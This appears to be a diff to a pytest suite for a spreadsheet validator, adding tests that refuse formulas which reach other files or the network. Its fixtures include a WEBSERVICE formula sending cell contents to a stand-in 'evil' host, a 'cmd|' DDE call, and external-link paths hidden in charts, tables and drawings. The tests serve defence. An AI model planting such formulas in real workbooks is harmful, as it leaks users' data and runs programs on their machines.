@@ -235,9 +235,123 @@ def test_a_formula_that_hands_on_what_stands_beside_it_is_refused(content: bytes
         rules.check_book(rules.open_book(content))
 
 
-def test_a_formula_that_only_speaks_of_such_a_one_is_taken() -> None:
-    said = '<row r="1"><c r="A1"><f>IF(B1,"CALL (0571)",RECALL(B1))</f></c></row>'
-    rules.check_book(rules.open_book(sheet_with(said)))
+SENT = 'WEBSERVICE("http://evil/"&amp;A2)'
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        # A sheet whose name holds the mark of a text, and the other way round.
+        f"'a\"b'!A1&amp;{SENT}&amp;'a\"b'!A1",
+        f'"it\'s"&amp;{SENT}&amp;"it\'s"',
+        f"T[a'\"]&amp;{SENT}&amp;T[a'\"]",
+        # Another file, named where it is used and nowhere else.
+        r"'\\evil\share\[a.xlsx]S'!A1",
+        "'http://evil/[a.xlsx]S'!A1",
+        "'http://evil/a.xlsx'!Name",
+        "[a.xlsx]S!A1",
+        "[1]S!A1",
+        "[1]!Name",
+        "1+[a.xls]",
+        # A program, and a function that is handed to another one.
+        "cmd|'x'!A1",
+        "MAP(A1:A3,_xleta.WEBSERVICE)",
+        '_xlfn.STOCKHISTORY("MSFT",A1)',
+        # What is not closed could be closed elsewhere by another program.
+        'A1&amp;"',
+        "'S!A1",
+    ],
+)
+def test_a_formula_that_reaches_out_is_known_however_it_is_written(formula: str) -> None:
+    content = sheet_with(f'<row r="1"><c r="A1"><f>{formula}</f></c></row>')
+    with pytest.raises(Invalid, match="another file"):
+        rules.check_book(rules.open_book(content))
+
+
+@pytest.mark.parametrize(
+    ("part", "body"),
+    [
+        (
+            "xl/tables/table1.xml",
+            f"<calculatedColumnFormula>{SENT}</calculatedColumnFormula>",
+        ),
+        ("xl/tables/plain.bin", f" <t><x:totalsRowFormula>{SENT}</x:totalsRowFormula></t>"),
+        ("xl/charts/chart1.xml", f"<c:chart><c:f>{SENT}</c:f></c:chart>"),
+        ("xl/drawings/drawing2.xml", "<d><sp textlink=\"'http://e/[a.xlsx]S'!A1\"/></d>"),
+        ("xl/ctrlProps/ctrlProp1.xml", "<p fmlaLink=\"'http://e/[a.xlsx]S'!A1\"/>"),
+        ("xl/pivotCache/cache.xml", f"<p formula='{SENT}'/>"),
+        ("xl/sheets/hidden.xml", f"<worksheet><f>1+<b/>{SENT}</f></worksheet>"),
+        ("xl/drawings/old.vml", f"<xml><x:FmlaPict>{SENT}</x:FmlaPict><br></xml>"),
+    ],
+)
+def test_a_formula_is_looked_at_in_every_part(part: str, body: str) -> None:
+    with pytest.raises(Invalid, match="another file"):
+        rules.check_book(rules.open_book(ugly.made_of({**ugly.PARTS, part: body})))
+
+
+def relations_with(old: str, new: str) -> dict[str, str]:
+    """The relations of the workbook, one of them put in other words."""
+    return {"xl/_rels/workbook.xml.rels": ugly.WORKBOOK_RELATIONS.replace(old, new)}
+
+
+def test_a_worksheet_is_read_wherever_it_lies_and_however_it_is_spelled() -> None:
+    parts = {**ugly.PARTS, **relations_with("worksheets/sheet1.xml", "Sheets/Sheet1.XML")}
+    parts["xl/sheets/sheet1.xml"] = parts.pop("xl/worksheets/sheet1.xml")
+    book, found = opened(ugly.made_of(parts))
+    assert [one.part for one in book.worksheets] == [
+        "xl/sheets/sheet1.xml",
+        "xl/worksheets/sheet2.xml",
+    ]
+    assert found.seen(rules.cell_of("A3")).text == "12"
+
+
+def test_a_sheet_that_is_a_chart_alone_has_no_cells_and_is_taken() -> None:
+    chart = '<sheet name="图" sheetId="3" r:id="rId9"/></sheets>'
+    parts = {
+        **ugly.PARTS,
+        "xl/workbook.xml": ugly.WORKBOOK.replace("</sheets>", chart),
+        "xl/chartsheets/sheet1.xml": f'<chartsheet xmlns="{ugly.MAIN}"/>',
+        **relations_with(
+            "</Relationships>",
+            f'<Relationship Id="rId9" Type="{ugly.RELATIONS}/chartsheet"'
+            ' Target="chartsheets/sheet1.xml"/></Relationships>',
+        ),
+    }
+    book = rules.open_book(ugly.made_of(parts))
+    rules.check_book(book)
+    assert [one.name for one in book.worksheets] == [FIRST, SECOND]
+
+
+@pytest.mark.parametrize(
+    "changed",
+    [
+        relations_with("worksheets/sheet1.xml", "worksheets/sheet9.xml"),
+        relations_with("worksheets/sheet1.xml", "/xl/worksheets/Sheet2.xml"),
+        relations_with("worksheets/sheet1.xml", "styles.xml"),
+        relations_with("relationships/worksheet", "relationships/theme"),
+        relations_with('"rId4"', '"rId1"'),
+        {"_rels/.rels": str(ugly.PARTS["_rels/.rels"]).replace("xl/w", "xl/a/w")},
+        {"xl/workbook.xml": ugly.WORKBOOK.replace("汇总", FIRST)},
+    ],
+)
+def test_a_workbook_in_which_two_programs_could_find_different_sheets_is_refused(
+    changed: dict[str, str],
+) -> None:
+    with pytest.raises(Invalid, match="cannot be read"):
+        rules.open_book(ugly.made_of({**ugly.PARTS, **changed}))
+
+
+def test_formulas_that_stay_in_the_workbook_are_taken() -> None:
+    said = (
+        'IF(B1,"CALL (0571)",RECALL(B1))',
+        'IF(B1,"""http://evil/[a.xlsx]"" | ","it\'s")',
+        "'a\"b'!A1+'it''s'!B2+'一 月:三月'!C3",
+        "SUM(表1[[#This Row],[a'[b']]],表1[件数])+SUM(T.1[件.数])",
+        "[0]!区域+SUM([@件数])",
+        'SUM({1,2;3,4})&amp;TEXT(A1,"[>1]0")&amp;HYPERLINK("http://a.org/?[b]")',
+    )
+    cells = "".join(f"<c><f>{one}</f></c>" for one in said)
+    rules.check_book(rules.open_book(sheet_with(f"<row>{cells}</row>")))
 
 
 # Each of these would take minutes, or all memory.
@@ -281,6 +395,13 @@ def packed_as(kind: int, *, cut: int = 0) -> bytes:
         (sheet_with('<row r="0"/>'), "cannot be read"),
         (sheet_with(f'<row r="{10**9}"/>'), "cannot be read"),
         (sheet_with('<row r="1"><c r="XFE1"/></row>'), "cannot be read"),
+        # Of a cell that is there twice only one would be filled.
+        (sheet_with('<row r="1"><c r="A1"/><c r="A1"/></row>'), "cannot be read"),
+        (sheet_with('<row r="1"><c r="B1"/><c r="A1"/></row>'), "cannot be read"),
+        (sheet_with('<row r="1"><c r="A2"/></row>'), "cannot be read"),
+        (sheet_with('<row r="2"/><row r="2"/>'), "cannot be read"),
+        (sheet_with('<row r="2"/><row r="1"/>'), "cannot be read"),
+        (sheet_with("", after='<sheetData><row r="1"/></sheetData>'), "cannot be read"),
         (ugly.workbook(styles=ugly.STYLES.replace('"31"', '"many"')), "cannot be read"),
         (packed_as(zipfile.ZIP_BZIP2), "cannot be read"),
         (packed_as(zipfile.ZIP_LZMA), "cannot be read"),
@@ -392,6 +513,5 @@ def test_an_address_to_click_on_is_no_harm() -> None:
 @pytest.mark.parametrize("part", ["sharedStrings", "sheet1"])
 def test_what_unfolds_itself_is_not_read(part: str) -> None:
     body = BOMB if part == "sharedStrings" else BOMB.replace("sst", "worksheet")
-    book = rules.open_book(ugly.workbook(**{part: body}))
-    with pytest.raises(Invalid):
-        rules.read(book, book.worksheets[0])
+    with pytest.raises(Invalid, match="cannot be read"):
+        opened(ugly.workbook(**{part: body}))
